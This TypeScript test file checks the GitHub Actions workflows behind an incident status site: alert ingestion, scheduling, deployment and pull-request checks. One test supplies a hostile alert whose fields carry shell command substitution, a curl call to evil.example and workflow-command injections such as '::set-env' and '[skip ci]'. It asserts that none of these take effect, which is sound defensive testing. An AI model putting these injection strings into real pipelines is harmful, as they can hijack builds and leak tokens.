import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { alertmanagerAlert, alertmanagerGroup } from '../fixtures/payloads.ts';
import { git } from '../support/command.ts';
import { type Github, startGithub } from '../support/github.ts';
import { serveHost } from '../support/host.ts';
import { withSite } from '../support/site.ts';
import { incidentFile } from '../support/small-site.ts';
import { written } from '../support/workflow-expressions.ts';
import { commit, host, program, pullRequest, slept } from '../support/workflow-hosting.ts';
import { type Hosting, type JobRun, type Run, runWorkflow } from '../support/workflow-runner.ts';

// Each test has a component of its own, so that no incident joins another's.
const CONTENT = {
  ...part('mail'),
  ...part('queue', 'hold: 3 min\n'),
  ...part('search'),
  ...part('shop'),
  ...part('maps'),
  ...part('chat'),
  ...part('post'),
  ...part('lists'),
  ...part('slow', 'hold: 25 min\n'),
  'incidents/2026/2026-11-11-typed.md': incidentFile({ title: 'Typed by a person' }),
};

let github: Hosting;
let api: Github;

beforeAll(async () => {
  api = await startGithub();
  github = host(CONTENT, { url: api.apiUrl, token: api.token });
});

afterAll(async () => {
  await api?.close();
  if (github) rmSync(github.folder, { recursive: true, force: true });
});

test('an alert becomes a commit of one file and a page, a repeated one neither, and its end is told as well', async () => {
  const before = tip();
  const run = await alert(firing('mail', 'a1'));
  expect([run.conclusion, results(run)]).toEqual(['success', DEPLOYED]);
  const [path = ''] = changedSince(before);
  expect(changedSince(before)).toEqual([expect.stringMatching(/^content\/incidents\/\d{4}\/[\w-]+\.md$/)]);
  const id = path.replace(/^.*\/|\.md$/g, '');
  expect(messagesSince(before)).toEqual([`incident ${id}: open\n`]);
  expect(await page(`/site/incidents/${id}/`)).toContain('mail is down');

  const opened = tip();
  const again = await alert(firing('mail', 'a1'));
  expect([again.conclusion, results(again), tip()]).toEqual(['success', LEFT_ALONE, opened]);

  const over = await alert(resolved('mail', 'a1'));
  expect([over.conclusion, results(over)]).toEqual(['success', DEPLOYED]);
  expect([changedSince(opened), messagesSince(opened)]).toEqual([[path], [`incident ${id}: resolve\n`]]);
  expect(await page(`/site/incidents/${id}/`)).toContain('This is resolved.');
});

test('a hostile alert is nothing but content: no program, variable, output or word of a message is its own', async () => {
  const mark = join(github.folder, 'pwned');
  const title = [
    `$(touch ${mark}) \`touch ${mark}\` "; touch ${mark}; curl http://evil.example "'`,
    '::set-env name=PWNED::yes',
    '::set-output name=changed::false',
    '##[set-env name=PWNED]yes',
    '::error file=README.md,line=1::Pwned',
    `[skip ci] Fixes #1 @team ${written('github.token')}`,
    'GITHUB_ENV=pwned',
    'skip-checks: true',
  ].join('\n');
  const before = tip();
  const run = await alert(
    alertmanagerGroup([
      alertmanagerAlert({
        labels: { alertname: title, component: 'chat', severity: 'critical', [title]: title },
        annotations: { summary: title, description: title },
        startsAt: new Date().toISOString(),
        fingerprint: 'h1\n::set-env name=PWNED::yes',
        generatorURL: `https://example.com/$(touch ${mark})`,
      }),
    ]),
  );
  expect([run.conclusion, results(run), existsSync(mark)]).toEqual(['success', DEPLOYED, false]);
  const [path = ''] = changedSince(before);
  const id = path.replace(/^.*\/|\.md$/g, '');
  expect([changedSince(before).length, id]).toEqual([1, expect.stringMatching(/^[a-z0-9-]+$/)]);
  expect(messagesSince(before)).toEqual([`incident ${id}: open\n`]);
  const jobs = Object.values(run.jobs);
  expect(jobs.flatMap(({ setting, annotations }) => [...setting, ...annotations])).toEqual([]);
  expect(run.jobs['ingest']?.outputs).toEqual({ changed: 'true', due: '', understood: 'true' });
  expect([run.summary, jobs.some(({ log }) => log.includes(github.api.token))]).toEqual(['', false]);
});

test('what is held wakes the workflow when it is due, and is published then', async () => {
  slept(github);
  const before = tip();
  const began = Date.now();
  const run = await alert(firing('queue', 's1'));
  expect(run.jobs['wake']?.result).toBe('success');
  const due = Number(run.jobs['ingest']?.outputs['due']);
  const [seconds = 0] = slept(github).filter((one) => one > 0);
  expect(due * 1_000 - began).toBeGreaterThan(170_000);
  expect(due * 1_000 - began).toBeLessThan(190_000);
  expect(due - seconds).toBeGreaterThanOrEqual(Math.floor(began / 1_000));
  expect(due - seconds).toBeLessThanOrEqual(Date.now() / 1_000);
  expect(messagesSince(before).join()).not.toContain('open');

  // The script's sleep ended at once here, so the clock of the run that it started is put forward instead.
  const [dispatch] = api.dispatches.splice(0);
  expect(dispatch?.event_type).toBe('alert');
  github.env['NOW'] = new Date(due * 1_000).toISOString();
  // What is told is remembered by a clock that is right.
  github.before = ({ job }) => {
    if (job.endsWith('pages')) delete github.env['NOW'];
  };
  try {
    const woken = await runWorkflow(github, 'alert.yml', dispatched(dispatch?.client_payload));
    expect([woken.conclusion, results(woken)]).toEqual(['success', DEPLOYED]);
  } finally {
    delete github.before;
    delete github.env['NOW'];
  }
  expect(messagesSince(before).at(-1)).toMatch(/^incident [\w-]+: open\n$/);
  expect(await page('/site/')).toContain('queue is down');
});

test('what a person pushes while an alert is ingested stays, and goes out with it', async () => {
  const before = tip();
  github.before = ({ step, job }) => {
    if (job !== 'ingest' || step !== 'Ingest') return;
    delete github.before;
    commit(github, { 'content/incidents/2026/2026-11-12-pushed.md': incidentFile({ title: 'Pushed by a person' }) });
  };
  const run = await alert(firing('search', 'a2'));
  expect([run.conclusion, results(run)]).toEqual(['success', DEPLOYED]);
  const [person, machine] = messagesSince(before);
  expect([person, machine]).toEqual(['By a person\n', expect.stringMatching(/^incident [\w-]+: open\n$/)]);
  expect(await page('/site/incidents/2026-11-12-pushed/')).toContain('Pushed by a person');
  expect(await page('/site/')).toContain('search is down');
});

test('what is not understood makes the run red, while the rest of the message is published', async () => {
  const before = tip();
  const strange = alertmanagerAlert({ status: 'exploding', fingerprint: 'x1' });
  const run = await alert(alertmanagerGroup([fires('shop', 'w1'), strange]));
  expect([run.conclusion, results(run)]).toEqual(['failure', { ...DEPLOYED, understood: 'failure' }]);
  expect(messagesSince(before)).toHaveLength(1);
  expect(await page('/site/')).toContain('shop is down');

  const nothing = await runWorkflow(github, 'alert.yml', dispatched({ source: 'abacus', payload: {} }));
  expect([nothing.conclusion, results(nothing)]).toEqual(['failure', { ...LEFT_ALONE, understood: 'failure' }]);
  expect(nothing.jobs['ingest']?.log).toContain('Not understood');
});

test('a repository that refuses a push is asked again', async () => {
  slept(github);
  const hook = join(github.origin, 'hooks/pre-receive');
  program(join(github.origin, 'hooks'), 'pre-receive', `rm ${hook}; echo 'Internal error' >&2; exit 1`);
  const before = tip();
  const run = await alert(firing('post', 'p1'), ['ingest']);
  expect([run.conclusion, messagesSince(before).length, slept(github)]).toEqual(['success', 1, [0, 5]]);
});

test('the form of the workflow takes a message, and asks for what is due when it is empty', async () => {
  const form = (source: string, payload: string) => ({
    name: 'workflow_dispatch',
    payload: { inputs: { source, payload }, repository: REPOSITORY },
    jobs: ['ingest'],
  });
  const before = tip();
  const empty = await runWorkflow(github, 'alert.yml', form('', ''));
  expect([empty.conclusion, tip()]).toEqual(['success', before]);
  const message = JSON.stringify(alertmanagerGroup([fires('maps', 'w2')]));
  const filled = await runWorkflow(github, 'alert.yml', form('alertmanager', message));
  expect([filled.conclusion, filled.jobs['ingest']?.outputs['changed']]).toEqual(['success', 'true']);
  const tick = await runWorkflow(github, 'alert.yml', {
    name: 'schedule',
    payload: { schedule: '23 * * * *' },
    jobs: ['ingest'],
  });
  expect([tick.conclusion, tick.jobs['ingest']?.outputs['understood']]).toEqual(['success', 'true']);
});

test('with the address of an Alertmanager, the schedule ends what it no longer knows, and nothing when it does not answer', async () => {
  await alert(firing('lists', 'l1'), ['ingest']);
  const asked: string[] = [];
  let answer = '';
  let status = startedBefore(16);
  const alertmanager = await serveHost((request, response) => {
    asked.push(`${request.url} ${request.headers.authorization}`);
    response.end(request.url === '/api/v2/status' ? status : answer);
  });
  const tick = () =>
    runWorkflow(github, 'alert.yml', { name: 'schedule', payload: { schedule: '' }, jobs: ['ingest'] });
  Object.assign(github.vars, { ALERTMANAGER_URL: `${alertmanager.address}/` });
  Object.assign(github.secrets, { ALERTMANAGER_TOKEN: 'secret-of-alertmanager' });
  try {
    const before = tip();
    for (const wrong of ['<html>Bad gateway</html>', '{"status":"error"}']) {
      answer = wrong;
      const failed = await tick();
      expect([failed.conclusion, tip(), said(failed)]).toEqual(['success', before, [['warning', 'Not compared']]]);
    }
    expect(new Set(asked)).toEqual(new Set(['/api/v2/alerts?active=true Bearer secret-of-alertmanager']));

    const state = { state: 'active', silencedBy: [], inhibitedBy: [] };
    answer = JSON.stringify([
      { ...fires('lists', 'l1'), status: state, receivers: [{ name: 'all' }], updatedAt: new Date() },
    ]);
    const same = await tick();
    expect(same.conclusion).toBe('success');
    expect(openIncidents()).toContain('lists is down');

    answer = '[]';
    const known = tip();
    for (const wrong of ['Bad gateway', '{}', '{"uptime":"yesterday"}']) {
      status = wrong;
      expect(said(await tick()), wrong).toEqual([['warning', 'Not compared']]);
    }
    status = startedBefore(14);
    expect(said(await tick())).toEqual([['notice', 'Not compared']]);
    expect(tip()).toBe(known);
    expect(new Set(asked)).toContain('/api/v2/status Bearer secret-of-alertmanager');

    status = startedBefore(16, '+05:30');
    const ended = await tick();
    expect([ended.conclusion, ended.jobs['ingest']?.outputs['changed']]).toEqual(['success', 'true']);
    expect(openIncidents()).not.toContain('lists is down');
  } finally {
    delete github.vars['ALERTMANAGER_URL'];
    delete github.secrets['ALERTMANAGER_TOKEN'];
    await alertmanager.close();
  }
});

test('what is due later than a runner is paid to wait is left to the schedule', async () => {
  slept(github);
  api.dispatches.splice(0);
  const run = await alert(firing('slow', 'd1'), ['ingest', 'wake']);
  expect(Number(run.jobs['ingest']?.outputs['due']) * 1_000 - Date.now()).toBeGreaterThan(20 * 60_000);
  expect([run.jobs['wake']?.result, slept(github), api.dispatches]).toEqual(['success', [0], []]);
  expect(run.jobs['wake']?.log).toContain('the schedule will look');
});

test('where GitHub Pages is off, a deployment ends at once and says where to turn it on', async () => {
  const asked: string[] = [];
  const off = await serveHost((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.statusCode = 404;
    response.end('{"message":"Not Found"}');
  });
  const { api: usual } = github;
  github.api = { ...usual, url: off.address };
  try {
    const run = await runWorkflow(github, 'deploy.yml', { name: 'push', payload: { repository: REPOSITORY } });
    const skipped = { pages: 'skipped', second: 'skipped', compare: 'skipped', complete: 'skipped' };
    expect([run.conclusion, results(run)]).toEqual(['failure', { build: 'failure', ...skipped, ...TOLD }]);
    expect(run.jobs['build']?.annotations).toEqual([
      expect.objectContaining({
        level: 'error',
        title: 'GitHub Pages is off',
        message: expect.stringContaining('Settings → Pages → Source: GitHub Actions'),
      }),
    ]);
    expect(asked).toEqual(['GET /repos/octo/site/pages']);
  } finally {
    github.api = usual;
    await off.close();
  }
});

test('a push is published, with an earlier version of a broken file, and the run is red so that somebody mends it', async () => {
  const path = 'content/incidents/2026/2026-11-11-typed.md';
  const push = { name: 'push', payload: { repository: REPOSITORY } };
  commit(github, { [path]: incidentFile({ title: 'Typed with care' }) });
  const run = await runWorkflow(github, 'deploy.yml', push);
  expect([run.conclusion, results(run)]).toEqual(['success', PUBLISHED]);
  expect(await page('/site/incidents/2026-11-11-typed/')).toContain('Typed with care');

  commit(github, {
    [path]: incidentFile({ title: 'Typed in haste', fields: 'components:\n  api: degradd\n' }),
    'content/incidents/2026/2026-11-12-good.md': incidentFile({ title: 'Good beside it' }),
  });
  const broken = await runWorkflow(github, 'deploy.yml', push);
  expect([broken.conclusion, results(broken)]).toEqual(['failure', { ...PUBLISHED, complete: 'failure' }]);
  expect(broken.jobs['build']?.annotations).toContainEqual(
    expect.objectContaining({ level: 'error', file: path, line: '5' }),
  );
  expect(await page('/site/incidents/2026-11-11-typed/')).toContain('Typed with care');
  expect(await page('/site/incidents/2026-11-12-good/')).toContain('Good beside it');
  commit(github, { [path]: incidentFile({ title: 'Typed with care' }) });
});

test('a second host gets the same site by ssh, and one that shows something else is told of', async () => {
  const second = join(github.folder, 'second.git');
  const arguments_ = join(github.folder, 'ssh');
  git(github.folder, 'init', '--quiet', '--bare', second);
  program(
    github.programs[0] ?? '',
    'ssh',
    `printf '%s\\n' "$@" > ${arguments_}; cat "$2" >> ${arguments_}; exec git-receive-pack ${second}`,
  );
  Object.assign(github.vars, {
    SECOND_REPOSITORY: 'git@second.example:site.git',
    SECOND_HOST_KEYS: 'second.example key',
  });
  Object.assign(github.secrets, { DEPLOY_KEY: 'the-key' });
  const first = await servedNow();
  try {
    github.pages.address = `${first.address}/site`;
    github.vars['SECOND_URL'] = `${first.address}/site/`;
    const run = await runWorkflow(github, 'deploy.yml', { name: 'push', payload: { repository: REPOSITORY } });
    expect([run.conclusion, results(run)]).toEqual([
      'success',
      { ...PUBLISHED, second: 'success', compare: 'success' },
    ]);
    const published = git(second, 'show', 'refs/heads/pages:index.html');
    expect(published).toBe(readFileSync(join(github.pages.folder, 'site/index.html'), 'utf8'));
    expect(git(second, 'ls-tree', '--name-only', 'refs/heads/pages')).toContain('.nojekyll');
    const ssh = readFileSync(arguments_, 'utf8');
    expect(ssh).toMatch(/StrictHostKeyChecking=yes.*git@second\.example\n.*the-key/s);

    const other = await serveHost((_, response) => response.end('Something else'));
    github.vars['SECOND_URL'] = other.address;
    const differs = await runWorkflow(github, 'deploy.yml', { name: 'push', payload: { repository: REPOSITORY } });
    await other.close();
    expect([differs.conclusion, differs.jobs['compare']?.result]).toEqual(['failure', 'failure']);
  } finally {
    await first.close();
    github.vars = {};
    github.secrets = {};
  }
});

test('a pull request with a broken file fails with its file and line; a good one brings the site as it would be', async () => {
  const file = 'content/incidents/2026/2026-11-13-new.md';
  const check = (ref: string) =>
    runWorkflow(github, 'ci.yml', {
      name: 'pull_request',
      ref,
      payload: { repository: REPOSITORY },
      jobs: ['content'],
    });
  const bad = await check(pullRequest(github, { [file]: incidentFile({ fields: 'components:\n  api: degradd\n' }) }));
  expect([bad.conclusion, existsSync(join(bad.artifacts, 'preview'))]).toEqual(['failure', false]);
  expect(bad.jobs['content']?.annotations).toEqual([expect.objectContaining({ level: 'error', file, line: '5' })]);

  const good = await check(pullRequest(github, { [file]: incidentFile({ title: 'New in this change' }) }));
  expect([good.conclusion, good.summary]).toEqual(['success', expect.stringContaining('preview')]);
  const preview = join(good.artifacts, 'preview/incidents/2026-11-13-new/index.html');
  expect(readFileSync(preview, 'utf8')).toContain('New in this change');

  // Somebody changes the words of a published update and does not say so.
  const typed = 'content/incidents/2026/2026-11-11-typed.md';
  const text = git(github.origin, 'show', `main:${typed}`).replace('Looking.', 'Looking elsewhere.');
  const silent = await check(pullRequest(github, { [typed]: text }));
  expect([silent.conclusion, silent.jobs['content']?.annotations[0]?.file]).toEqual(['failure', typed]);
});

test('the code is tested where a pull request changes anything but content, and only there', async () => {
  commit(github, { '.ci/run': 'echo "All of it is tested"\n' });
  const incident = { 'content/incidents/2026/2026-11-14-other.md': incidentFile({ title: 'Other' }) };
  const code = { 'src/other.ts': 'export {};\n' };
  for (const [files, tested] of [
    [incident, false],
    [code, true],
    [{ ...incident, ...code }, true],
  ] as const) {
    const ref = pullRequest(github, files);
    const payload = { repository: REPOSITORY };
    const run = await runWorkflow(github, 'ci.yml', { name: 'pull_request', ref, payload, jobs: ['project'] });
    expect([run.conclusion, run.jobs['project']?.log.includes('All of it is tested')]).toEqual(['success', tested]);
  }
});

const REPOSITORY = { default_branch: 'main', full_name: 'octo/site' };
const TOLD = { notify: 'success', 'notify / notify': 'success', 'notify / told': 'skipped' };
const PUBLISHED = {
  build: 'success',
  pages: 'success',
  second: 'skipped',
  compare: 'skipped',
  complete: 'skipped',
  ...TOLD,
};
const DEPLOYED = {
  ingest: 'success',
  deploy: 'success',
  'deploy / build': 'success',
  'deploy / pages': 'success',
  'deploy / second': 'skipped',
  'deploy / compare': 'skipped',
  'deploy / complete': 'skipped',
  'deploy / notify': 'skipped',
  ...TOLD,
  understood: 'skipped',
};
const LEFT_ALONE = { ingest: 'success', deploy: 'skipped', ...TOLD, understood: 'skipped' };

/** A component and the rule for its alerts, which are called by its id. */
function part(id: string, more = ''): Record<string, string> {
  const fields = `name: ${id} is down\nmatch:\n  alertname: ${id}\ncomponent: ${id}\nimpact: major outage\nseverity: sev2\n`;
  return {
    [`components/${id}.md`]: `---\nname: ${id}\ngroup: core\nsince: 2024-01-01\n---\n\nText.\n`,
    [`rules/${id}.md`]: `---\n${fields}${more}---\n\nWe look into it.\n`,
  };
}

function fires(alertname: string, fingerprint: string): Record<string, unknown> {
  began[fingerprint] ??= new Date().toISOString();
  const startsAt = began[fingerprint];
  return alertmanagerAlert({ labels: { alertname, severity: 'critical' }, startsAt, fingerprint });
}

const began: Record<string, string> = {};

function firing(alertname: string, fingerprint: string): Record<string, unknown> {
  return alertmanagerGroup([fires(alertname, fingerprint)]);
}

function resolved(alertname: string, fingerprint: string): Record<string, unknown> {
  return alertmanagerGroup([
    { ...fires(alertname, fingerprint), status: 'resolved', endsAt: new Date().toISOString() },
  ]);
}

function alert(payload: unknown, jobs?: string[]): Promise<Run> {
  return runWorkflow(github, 'alert.yml', {
    ...dispatched({ source: 'alertmanager', payload }),
    ...(jobs && { jobs }),
  });
}

/** What an Alertmanager says of itself that has run for these minutes. */
function startedBefore(minutes: number, zone: 'Z' | '+05:30' = 'Z'): string {
  const ahead = zone === 'Z' ? 0 : 5.5 * 60;
  const there = new Date(Date.now() + (ahead - minutes) * 60_000).toISOString();
  return JSON.stringify({ cluster: { status: 'ready' }, uptime: there.replace('Z', zone) });
}

/** What a run tells a person at the job that ingests. */
function said(run: Run): [level: string, title: string][] {
  return (run.jobs['ingest']?.annotations ?? []).map(({ level, title }) => [level, title]);
}

function dispatched(client_payload: unknown) {
  return {
    name: 'repository_dispatch',
    payload: { action: 'alert', branch: 'main', client_payload, repository: REPOSITORY },
  };
}

/** How the jobs ended; the one that may or may not wait is looked at where that matters. */
function results({ jobs }: Run): Record<string, JobRun['result']> {
  return Object.fromEntries(
    Object.entries(jobs).flatMap(([name, { result }]) => (name === 'wake' ? [] : [[name, result] as const])),
  );
}

function tip(): string {
  return git(github.origin, 'rev-parse', 'main').trim();
}

function changedSince(before: string): string[] {
  return git(github.origin, 'diff', '--name-only', before, 'main').split('\n').filter(Boolean);
}

function messagesSince(before: string): string[] {
  return git(github.origin, 'log', '--reverse', '--format=%B%x00', `${before}..main`)
    .split('\0')
    .map((text) => text.trim())
    .filter(Boolean)
    .map((text) => `${text}\n`);
}

/** The titles of incidents that have not ended. */
function openIncidents(): string[] {
  const paths = git(github.origin, 'ls-tree', '-r', '--name-only', 'main', 'content/incidents')
    .split('\n')
    .filter(Boolean);
  const texts = paths.map((path) => git(github.origin, 'show', `main:${path}`));
  return texts.filter((text) => !/^## .*resolved/m.test(text)).map((text) => /^title: (.*)$/m.exec(text)?.[1] ?? '');
}

function page(path: string): Promise<string> {
  return withSite(github.pages.folder, async ({ address }) => (await fetch(new URL(path, address))).text());
}

/** Serves what is published at each moment. */
function servedNow() {
  return serveHost((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost');
    const file = join(github.pages.folder, pathname.endsWith('/') ? `${pathname}index.html` : pathname);
    response.statusCode = existsSync(file) ? 200 : 404;
    response.end(existsSync(file) ? readFileSync(file) : 'Not here');
  });
}
